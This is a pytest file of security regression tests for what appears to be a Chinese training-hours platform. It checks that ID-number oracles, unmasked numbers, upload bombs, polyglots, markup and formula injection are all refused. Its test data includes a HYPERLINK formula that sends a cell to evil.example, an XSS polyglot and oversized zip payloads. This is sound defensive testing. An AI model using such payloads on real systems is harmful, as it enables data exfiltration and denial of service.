"""Attacks an outside tester tried, each of which must now fail: existence
oracles on full ID numbers, full numbers in files, bombs in uploads, markup
and formulas in outputs, and inputs that made a 500."""
from __future__ import annotations

import difflib

import re

import io
import itertools

import pytest
from sqlalchemy import func, select

from app.extensions import db
from tests import factories, samples
from tests.conftest import PASSWORD
from tests.samples import post_file

_serial = itertools.count()


def xlsx(rows, headers) -> bytes:
    return samples.xlsx(headers, rows)


def without_number(result: dict) -> dict:
    return {k: v for k, v in result.items() if k != "id_number"}


# 1. No existence oracle ------------------------------------------------------------------

def test_single_check_answers_outside_the_scope_as_not_existing(api, world):
    outsider, nobody = world.id_number["B"], factories.id_number("370203")
    for role in ("unit_reviewer", "district_officer"):
        seen = api(role, "POST", "/api/v1/eligibility/check", json={"id_number": outsider, "year": 2026})
        unseen = api(role, "POST", "/api/v1/eligibility/check", json={"id_number": nobody, "year": 2026})
        assert seen.status_code == unseen.status_code == 200
        assert without_number(seen.json["result"]) == without_number(unseen.json["result"])
        assert not seen.json["result"]["found"]


def test_bulk_check_answers_outside_the_scope_as_not_existing(api, world):
    from openpyxl import load_workbook

    rows = [[world.id_number["B"], "测试人员B"], [factories.id_number("370203"), "测试人员B"]]
    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk",
                     xlsx(rows, ["身份证号", "姓名"]), "a.xlsx", year="2026")
    assert resp.status_code == 200
    out = list(load_workbook(io.BytesIO(resp.data)).active.iter_rows(min_row=2, values_only=True))
    assert out[0][3:] == out[1][3:]


def _person_body(number: str, unit_id: int) -> dict:
    return {"id_number": number, "name": "探测", "unit": unit_id, "series": "engineering",
            "title_level": "junior"}


def test_person_create_reports_a_duplicate_only_inside_the_scope(api, world):
    taken, free = world.id_number["B"], factories.id_number("370203")
    other_unit = world.unit["B"]
    answers = [api("unit_reviewer", "POST", "/api/v1/person/", json=_person_body(n, other_unit))
               for n in (taken, free)]
    assert [r.status_code for r in answers] == [403, 403]
    assert answers[0].json == answers[1].json
    found = api("association_admin", "GET",
                f"/api/v1/person/?q=(filters:!((col:id_number,opr:eq,value:'{free}')))")
    assert found.json["count"] == 0  # nothing was created


def test_person_screen_has_no_uniqueness_oracle(app, clients, world):
    """Into another unit: refused alike. Into one's own unit, a number held
    elsewhere and a free one: the same 已提交，待确认 (tests/test_person_requests.py)."""
    from tests.test_oracle_timing import outsider
    from tests.test_person_requests import comparable_page

    client = clients("unit_reviewer")
    asked = re.compile(r'(class="home-requests">[^<]*<a [^>]*>)(\d+)<')  # 我提交的待确认申请: n
    for unit in ("B", "A"):
        pages, counts = [], []
        for number in (outsider(app, world), factories.id_number("370203")):
            client.get("/personview/list/")  # where the form sends the user back to
            resp = client.post("/personview/add", data={**_person_body(number, world.unit[unit]),
                                                        "unit": str(world.unit[unit]),
                                                        "is_enterprise_manager": "y"},
                               follow_redirects=True)
            page = comparable_page(resp, number)
            found = asked.search(page)
            counts.append(int(found[2]) if found else None)
            pages.append(asked.sub(r"\1#<", page))
        assert pages[0] == pages[1], "\n".join(difflib.unified_diff(
            pages[0].splitlines(), pages[1].splitlines(), lineterm=""))
        if counts[0] is not None:  # each number asked alike adds one request of the unit's own, or none
            assert counts[1] == counts[0] + (unit == "A"), (unit, counts)
        assert "该值已登记" not in pages[0] and "已经存在" not in pages[0]
    assert "已提交，待确认" in pages[0]
    # inside the scope, the duplicate is reported
    own = client.post("/personview/add", data={**_person_body(world.id_number["A"], world.unit["A"]),
                                                "unit": str(world.unit["A"]), "is_enterprise_manager": "y"},
                      follow_redirects=True)
    assert "该值已登记" in own.get_data(as_text=True)


def test_api_filter_on_a_full_number_outside_the_scope_finds_nothing(api, world):
    for number in (world.id_number["B"], factories.id_number("370203")):
        resp = api("unit_reviewer", "GET",
                   f"/api/v1/person/?q=(filters:!((col:id_number,opr:eq,value:'{number}')))")
        assert resp.status_code == 200 and resp.json["count"] == 0


@pytest.fixture()
def checker(app, make_app):
    """A fresh unit reviewer on an app allowing 3 not-found numbers and 2 lists a day."""
    from app.services import accounts, audit

    limited = make_app(XUESHI_LOOKUP_NOT_FOUND_PER_DAY=3, XUESHI_LOOKUP_FILES_PER_DAY=2,
                       XUESHI_LOOKUP_ROWS_PER_DAY=50)
    name = f"checker{next(_serial)}_{factories.id_number()[-6:]}"
    world = app.config["TEST_WORLD"]
    with limited.app_context(), audit.acting_as("tests"):
        accounts.create_user(limited.appbuilder, username=name, password=PASSWORD,
                             role="unit_reviewer", targets={"unit": world.credit_code["A"]})
        db.session.remove()
    client = limited.test_client()
    token = client.post("/api/v1/security/login", json={
        "username": name, "password": PASSWORD, "provider": "db", "refresh": False}).json["access_token"]

    def call(method, url, **kwargs):
        return client.open(url, method=method, headers={"Authorization": f"Bearer {token}"}, **kwargs)

    call.app, call.username = limited, name
    return call


def test_not_found_numbers_stop_the_checks_for_the_day_and_alert_the_association(checker, world):
    from app.models import AuditEntry, IdLookup, LookupAlert

    for _ in range(3):
        resp = checker("POST", "/api/v1/eligibility/check",
                       json={"id_number": factories.id_number("370203"), "year": 2026})
        assert resp.status_code == 200
    stopped = checker("POST", "/api/v1/eligibility/check",
                      json={"id_number": world.id_number["A"], "year": 2026})
    assert stopped.status_code == 429 and "明天" in str(stopped.json["message"])
    with checker.app.app_context():
        alerts = db.session.execute(select(LookupAlert).where(
            LookupAlert.username == checker.username)).scalars().all()
        assert len(alerts) == 1 and alerts[0].not_found == 3
        lookups = db.session.execute(select(func.count()).select_from(IdLookup).where(
            IdLookup.username == checker.username)).scalar()
        assert lookups == 3
        audited = db.session.execute(select(func.count()).select_from(AuditEntry).where(
            AuditEntry.table_name == "id_lookup", AuditEntry.username == checker.username)).scalar()
        assert audited == 3
        db.session.remove()


def test_bulk_checks_are_limited_per_login_per_day(checker, world):
    body = xlsx([[world.id_number["A"], "测试人员A"]], ["身份证号", "姓名"])
    codes = [post_file(lambda _r, m, u, **k: checker(m, u, **k), None, "/api/v1/eligibility/bulk",
                       body, "a.xlsx", year="2026").status_code for _ in range(3)]
    assert codes == [200, 200, 429]
    big = xlsx([[factories.id_number("370202"), "x"] for _ in range(60)], ["身份证号", "姓名"])
    assert checker("POST", "/api/v1/eligibility/check",
                   json={"id_number": world.id_number["A"], "year": 2026}).status_code == 200
    del big


def test_the_association_reads_the_alerts(clients):
    assert clients("association_admin").get("/lookupalertview/list/").status_code == 200
    assert clients("unit_reviewer").get("/lookupalertview/list/").status_code in (302, 403)


# 2. Full numbers only to roles that may see them ---------------------------------------------

FULL_NUMBER = __import__("re").compile(r"(?<![0-9*])\d{17}[\dXx](?![0-9])")


def _texts_of_workbook(data: bytes) -> str:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data), read_only=True)
    return "\n".join(str(v) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
                     for v in row if v is not None)


def test_attendance_template_masks_numbers_for_the_organiser_and_refuses_the_department(
        api, clients, app, world):
    from tests.test_classes import ROSTER, accepted_class, confirm_roster, upload, xlsx as class_xlsx

    class_id = accepted_class(api)
    number = factories.id_number("370202")
    rows = [["参训甲", number, world.credit_code["A"], "13800000000", "工程", "中级"]]
    resp = upload(api, "base_staff", f"/api/v1/training_class/{class_id}/roster", class_xlsx(ROSTER, rows))
    assert resp.status_code == 200, resp.json
    confirm_roster(api, app, class_id)  # the unit's new person, enrolled once its reviewer confirms
    # the department of the class's base sees the class but does not run it
    assert clients("authority_staff").get(
        f"/trainingclassview/attendance-template/{class_id}").status_code == 404
    sheet = clients("base_staff").get(f"/trainingclassview/attendance-template/{class_id}")
    assert sheet.status_code == 200
    text = _texts_of_workbook(sheet.data)
    assert "参训甲" in text and not FULL_NUMBER.search(text)
    # the masked template comes back filled in and is matched by masked number and name
    from openpyxl import load_workbook
    book = load_workbook(io.BytesIO(sheet.data))
    book.active.cell(row=2, column=3, value=8)
    buf = io.BytesIO()
    book.save(buf)
    back = upload(api, "base_staff", f"/api/v1/training_class/{class_id}/attendance", buf.getvalue())
    assert back.status_code == 200, back.json
    from app.models import Enrolment, Person
    with app.app_context():
        enrolment = db.session.execute(select(Enrolment).join(Person).where(
            Person.id_number == number)).scalar_one()
        assert enrolment.attendance == {"2026-09-01": 8}
        db.session.remove()


def test_full_numbers_are_decided_by_a_permission_not_a_role_name():
    import inspect as pyinspect

    from app.security import roles, scope

    assert not hasattr(scope, "FULL_ID_ROLES")
    source = pyinspect.getsource(scope)
    assert "association_admin\", \"unit_reviewer\"" not in source
    holders = {r for r, pairs in roles.ROLE_PERMISSIONS.items() if roles.FULL_ID_NUMBERS in pairs}
    assert holders == {"association_admin", "unit_reviewer", "professional"}


def test_a_unit_reviewer_sees_other_units_participants_masked(api, app, world):
    from tests.test_classes import ROSTER, accepted_class, upload, xlsx as class_xlsx

    class_id = accepted_class(api, "unit_reviewer")
    mine, theirs = world.id_number["A"], factories.id_number("370203")
    rows = [["测试人员A", mine, world.credit_code["A"], "13800000000", "", ""],
            ["外单位学员", theirs, world.credit_code["B"], "13800000000", "工程", "中级"]]
    resp = upload(api, "unit_reviewer", f"/api/v1/training_class/{class_id}/roster", class_xlsx(ROSTER, rows))
    assert resp.status_code == 200, resp.json
    from app.security import masking
    from app.security.scope import scope_for_user
    with app.test_request_context():
        user = app.appbuilder.sm.find_user(username="unit_reviewer")
        seen = masking.shown_all([mine, theirs], scope_for_user(user))
        db.session.remove()
    assert seen[mine] == mine and seen[theirs] != theirs and "*" in seen[theirs]


def test_no_id_number_can_be_recovered_from_the_audit_log(app, api, world):
    """An auditor trying every birth date behind a masked number against the
    platform dedupe keys in the log finds nothing: the keys are HMACs."""
    import hashlib
    import json
    from datetime import date, timedelta

    from app.models import AuditEntry

    number = world.id_number["A"]
    rows = [[number, "测试人员A", "审计探测课程", "公需", "2026-03-01", 1]]
    resp = post_file(api, "association_admin", "/api/v1/platform_import/",
                     xlsx(rows, ["身份证号", "姓名", "课程名称", "类别", "日期", "学时"]), "p.xlsx")
    assert resp.status_code == 200, resp.json
    with app.app_context():
        entry = db.session.execute(select(AuditEntry).where(
            AuditEntry.table_name == "activity", AuditEntry.after.contains("审计探测课程"))).scalar_one()
        db.session.remove()
    logged = json.loads(entry.after)
    assert "dedupe_key" in logged and number not in entry.after
    masked_prefix, tail = number[:6], number[14:]
    born = date(1970, 1, 1)
    for offset in range(0, 40 * 366):
        candidate = masked_prefix + (born + timedelta(days=offset)).strftime("%Y%m%d") + tail
        for hours in ("1", "1.0", "1.00"):
            text = "|".join(["platform", candidate, "审计探测课程", "public", "2026-03-01", hours])
            assert hashlib.sha256(text.encode()).hexdigest() != logged["dedupe_key"]



def test_no_answer_gives_the_plain_sha256_of_an_evidence_file(app, api, clients):
    """Anyone holding a copy of a file could confirm it against a plain SHA-256:
    the API and the pages show only the keyed digest of the duplicate flag."""
    import hashlib

    from app.security.keyed import digest
    from tests.test_claims import new_claim, upload

    data = samples.PDF + f"% {next(_serial)} probe\n".encode()
    plain = hashlib.sha256(data).hexdigest()
    claim_id = new_claim(api)
    attached = upload(api, "professional", claim_id, data=data)
    assert attached.status_code == 200, attached.json
    with app.app_context():
        keyed = digest("evidence", plain)
    assert attached.json["digest"] == keyed and "sha256" not in attached.json
    shown = api("professional", "GET", f"/api/v1/claim/{claim_id}").json["result"]["evidence"]
    assert [e["digest"] for e in shown] == [keyed] and "sha256" not in shown[0]
    page = clients("professional").get(f"/claimview/show/{claim_id}").get_data(as_text=True)
    assert keyed[:16] in page
    for answer in (attached.get_data(as_text=True), str(shown), page):
        assert plain[:16] not in answer

# 3. Uploads within bounds before parsing; text is text in every output -----------------------

def _zip(entries: dict[str, bytes]) -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buf.getvalue()


def _workbook_parts(sheet_xml: bytes, shared: bytes | None = None) -> dict[str, bytes]:
    """The parts of a real one-sheet workbook, with this sheet (and shared strings)."""
    import zipfile

    parts = {}
    with zipfile.ZipFile(io.BytesIO(xlsx([["a", "b"]], ["身份证号", "姓名"]))) as archive:
        for name in archive.namelist():
            parts[name] = archive.read(name)
    parts["xl/worksheets/sheet1.xml"] = sheet_xml
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    return parts


SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
              b'spreadsheetml/2006/main">')


def _refused_fast(api, body: bytes):
    import time
    import tracemalloc

    tracemalloc.start()
    started = time.perf_counter()
    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk", body, "bomb.xlsx", year="2026")
    elapsed = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert resp.status_code == 400, resp.json
    assert elapsed < 1.0 and peak < 30 * 1024 * 1024, (elapsed, peak)
    return resp


@pytest.mark.parametrize("method,url,body", [
    ("GET", "/api/v1/person/?q=((((", None),
    ("POST", "/api/v1/eligibility/check", {"id_number": ["a"], "year": 2026}),
])
def test_malformed_query_and_body_types_are_a_400_not_a_500(api, method, url, body):
    resp = api("district_officer", method, url, json=body)
    assert resp.status_code == 400, resp.get_data(as_text=True)


def test_a_small_workbook_declaring_a_million_rows_is_refused_at_once(api):
    sheet = SHEET_HEAD + b'<dimension ref="A1:B1000000"/><sheetData><row r="1"><c r="A1" t="inlineStr">' \
        b'<is><t>x</t></is></c></row></sheetData></worksheet>'
    body = _zip(_workbook_parts(sheet))
    assert len(body) < 8000
    resp = _refused_fast(api, body)
    assert "太大" in str(resp.json["message"]) or "最多" in str(resp.json["message"])


def test_a_huge_shared_string_is_refused_before_it_is_read(api):
    shared = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
              b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>' + b"a" * (100 * 1024 * 1024)
              + b"</t></si></sst>")
    body = _zip(_workbook_parts(SHEET_HEAD + b"<sheetData/></worksheet>", shared))
    del shared
    assert len(body) < 200 * 1024
    _refused_fast(api, body)


def test_empty_rows_count_towards_the_row_limit(api, monkeypatch):
    from app.services import sheets

    monkeypatch.setattr(sheets, "MAX_ROWS", 50)
    rows = b"".join(b'<row r="%d"/>' % n for n in range(2, 200))
    sheet = SHEET_HEAD + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>\xe8\xba\xab\xe4\xbb\xbd' \
        b'\xe8\xaf\x81\xe5\x8f\xb7</t></is></c><c r="B1" t="inlineStr"><is><t>\xe5\xa7\x93\xe5\x90\x8d' \
        b'</t></is></c></row>' + rows + b"</sheetData></worksheet>"
    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk", _zip(_workbook_parts(sheet)),
                     "blank.xlsx", year="2026")
    assert resp.status_code == 400 and "50" in str(resp.json["message"])


def test_a_file_that_is_not_a_zip_but_says_xlsx_is_refused(api):
    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk", b"PK\x03\x04garbage", "x.xlsx",
                     year="2026")
    assert resp.status_code == 400


def test_evidence_that_is_also_a_web_page_is_refused(ctx):
    from app.services import evidence
    from app.services.errors import BusinessError
    from tests.samples import PDF

    polyglot = PDF + b"<html><script>alert(1)</script></html>"
    with pytest.raises(BusinessError):
        evidence.check_all([("a.pdf", polyglot)])
    with pytest.raises(BusinessError):
        evidence.check_all([("report.html", PDF)])  # the extension says HTML, the bytes say PDF
    assert evidence.check_all([("成绩单.PDF", PDF)]) == ["application/pdf"]
    assert evidence.served_name("成绩单.html", "application/pdf") == "成绩单.pdf"
    assert evidence.served_name("scan", "image/png") == "scan.png"


def test_markup_in_a_title_is_literal_text_in_the_year_certificate(tmp_path, ctx):
    from datetime import datetime

    from app.pdf import report
    from tests import pdfcheck

    items = [['<img src="/etc/passwd"/>', "<b>四(二)1</b>", "2026-03-01", "1", "0", "<x>"]]
    totals = {"compliant": False, "shortfall_public": "29", "shortfall_professional": "60",
              "public": "1", "professional": "0", "total": "1"}
    data = report.year_certificate(year=2026, number="<n>1", verify_url="http://127.0.0.1/v/x",
                                   name="<i>张三</i>", id_number="370202********1234",
                                   unit="<u>单位</u>", items=items, totals=totals,
                                   issued_at=datetime(2026, 12, 1))
    path = tmp_path / "year.pdf"
    path.write_bytes(data)
    text = pdfcheck.text(path)
    assert '<img src="/etc/passwd"/>' in text.replace("\n", "") or "<img" in text
    assert "<i>张三</i>" in text and "<u>单位</u>" in text


def test_formulas_are_written_as_text_in_every_workbook_and_csv(api, world):
    from openpyxl import load_workbook

    from app.services import sheets

    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    book = load_workbook(io.BytesIO(sheets.workbook_bytes("t", ["a"], [[attack], ["+1"], ["@SUM(1)"]])))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells) and cells[0].value == attack
    text = sheets.csv_bytes(["a"], [[attack], ["-2+3"], ["\tx"]]).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'-2+3" in text and "'\tx" in text
    # through a real download: the answered bulk check echoes the applicant's name
    import csv
    buf = io.StringIO()
    csv.writer(buf).writerows([["身份证号", "姓名"], [world.id_number["A"], attack]])
    resp = post_file(api, "unit_reviewer", "/api/v1/eligibility/bulk", buf.getvalue().encode(),
                     "a.csv", year="2026")
    out = load_workbook(io.BytesIO(resp.data)).active
    name_cell = out.cell(row=2, column=3)
    assert name_cell.value == attack and name_cell.data_type == "s"


# 4. No 500 on any input ------------------------------------------------------------------------

@pytest.mark.parametrize("pk", ["99999999999999999999", "-78329214228721369088", "2147483648", "0"])
def test_huge_ids_in_paths_are_not_found(api, clients, pk):
    for method in ("GET", "PUT", "DELETE"):
        resp = api("association_admin", method, f"/api/v1/person/{pk}", json={"name": "x"})
        assert resp.status_code in (400, 404, 405), (method, resp.status_code)
    for url in (f"/personview/show/{pk}", f"/trainingclassview/attendance-template/{pk}"):
        assert clients("association_admin").get(url).status_code == 404


@pytest.mark.parametrize("url", [
    "/api/v1/person/?q=(filters:!((col:id,opr:eq,value:99999999999999999999)))",
    "/api/v1/person/?q=(page:abc,page_size:x)",
    "/api/v1/person/?q=(page:99999999999999999999,page_size:10)",
    "/api/v1/claim/?q=(filters:!((col:year,opr:eq,value:99999999999999999999)))",
])
def test_malformed_or_huge_query_arguments_are_refused_not_500(api, url):
    assert 400 <= api("association_admin", "GET", url).status_code < 500


@pytest.mark.parametrize("body", [[1, 2], "text"])
def test_a_json_body_of_the_wrong_shape_is_refused(api, body):
    resp = api("association_admin", "POST", "/api/v1/eligibility/check", json=body)
    assert resp.status_code == 400


@pytest.mark.parametrize("arg", ["page_PersonView=abc", "psize_PersonView=abc",
                                 "page_PersonView=99999999999999999999"])
def test_page_arguments_that_are_not_small_numbers_are_refused(clients, arg):
    assert clients("association_admin").get(f"/personview/list/?{arg}").status_code == 400


@pytest.mark.parametrize("number", ["99999999999999999999", "-99999999999999999999", "2147483648"])
def test_a_huge_number_in_a_screens_filter_is_refused_not_500(app, clients, number):
    """Every list the association opens, each integer column it filters on (a year, a
    count): a number no column holds is a Chinese 400, not a 500 (SQLite's
    OverflowError, PostgreSQL's DataError)."""
    from flask_appbuilder.models.sqla.filters import FilterEqual

    from app.views.lists import filter_arg

    client, tried = clients("association_admin"), []
    with app.app_context():  # SQLite's INTEGER holds 2147483648, PostgreSQL's does not
        held = number == "2147483648" and db.engine.dialect.name == "sqlite"
    for view in app.appbuilder.baseviews:
        filters = getattr(view, "_filters", None)
        if filters is None or not hasattr(view, "datamodel"):
            continue
        url = f"/{type(view).__name__.lower()}/list/"
        for column, options in filters.get_search_filters().items():
            if not view.datamodel.is_integer(column) or not any(isinstance(f, FilterEqual) for f in options):
                continue
            if client.get(url).status_code != 200:
                break
            resp = client.get(url, query_string={filter_arg(view, column): number})
            tried.append(url)
            if held:  # a year nothing has: an empty list
                assert resp.status_code == 200, (url, column, resp.status_code)
                continue
            assert resp.status_code == 400, (url, column, resp.status_code)
            assert "数字超出范围" in resp.get_data(as_text=True), (url, column)
    assert {"/claimview/list/", "/ledgerview/list/", "/seminarview/list/"} <= set(tried)


def test_an_oversized_body_is_413_on_the_api(api):
    resp = api("association_admin", "POST", "/api/v1/eligibility/bulk",
               data={"file": (io.BytesIO(b"x" * (33 * 1024 * 1024)), "a.xlsx")},
               content_type="multipart/form-data")
    assert resp.status_code == 413 and "过大" in str(resp.json["message"])


@pytest.fixture()
def rostering(app, make_app, world):
    """A fresh base-staff login on an app allowing 3 mismatched rows and 2 lists a
    day, and an accepted class of its base (capacity 5)."""
    from app.models import TrainingClass
    from app.services import accounts, audit
    from tests.rows import make

    limited = make_app(XUESHI_LOOKUP_NOT_FOUND_PER_DAY=3, XUESHI_LOOKUP_FILES_PER_DAY=2,
                       XUESHI_LOOKUP_ROWS_PER_DAY=50)
    name = f"roster{next(_serial)}_{factories.id_number()[-6:]}"
    with limited.app_context(), audit.acting_as("tests"):
        accounts.create_user(limited.appbuilder, username=name, password=PASSWORD,
                             role="base_staff", targets={"base": "TB-A"})
        class_id = make(limited, world, TrainingClass, "accepted")
        db.session.commit()
        db.session.remove()
    client = limited.test_client()
    token = client.post("/api/v1/security/login", json={
        "username": name, "password": PASSWORD, "provider": "db", "refresh": False}).json["access_token"]

    def upload(rows, headers=("姓名", "身份证号", "单位统一社会信用代码", "手机")):
        body = xlsx(rows, list(headers))
        return client.post(f"/api/v1/training_class/{class_id}/roster",
                           headers={"Authorization": f"Bearer {token}"},
                           content_type="multipart/form-data",
                           data={"file": (io.BytesIO(body), "roster.xlsx")})

    upload.app, upload.username = limited, name
    return upload


def test_roster_imports_are_recorded_limited_and_mismatches_alert(rostering, world):
    """Each roster (refused or not) is a recorded, audited lookup; names that do
    not match a registered number count towards the day's threshold, which
    alerts the association and stops the login's lists and checks."""
    from app.models import AuditEntry, IdLookup, LookupAlert

    unit_b = world.credit_code["B"]
    wrong = [[f"猜测{i}", world.id_number["B"], unit_b, ""] for i in range(1)]
    first = rostering(wrong + [["另一个猜测", world.id_number["A"], unit_b, ""]])
    assert first.status_code == 400  # refused, nothing written
    second = rostering([["猜测", world.id_number["A"], unit_b, ""]])
    assert second.status_code == 400
    stopped = rostering([["测试人员A", world.id_number["A"], unit_b, ""]])
    assert stopped.status_code == 429 and "明天" in str(stopped.json["message"])
    with rostering.app.app_context():
        lookups = db.session.execute(select(IdLookup).where(
            IdLookup.username == rostering.username).order_by(IdLookup.id)).scalars().all()
        assert [(r.kind, r.rows, r.not_found) for r in lookups] == [("roster", 2, 2), ("roster", 1, 1)]
        alerts = db.session.execute(select(LookupAlert).where(
            LookupAlert.username == rostering.username)).scalars().all()
        assert len(alerts) == 1 and alerts[0].not_found == 3
        audited = db.session.execute(select(func.count()).select_from(AuditEntry).where(
            AuditEntry.table_name == "id_lookup", AuditEntry.username == rostering.username)).scalar()
        assert audited == 2
        db.session.remove()


def test_roster_lists_are_limited_per_login_per_day(rostering, world):
    row = [["测试人员A", world.id_number["A"], world.credit_code["A"], "", "engineering", "intermediate"]]
    headers = ("姓名", "身份证号", "单位统一社会信用代码", "手机", "职称系列", "职称级别")
    codes = [rostering(row, headers).status_code for _ in range(3)]
    assert codes == [200, 200, 429]
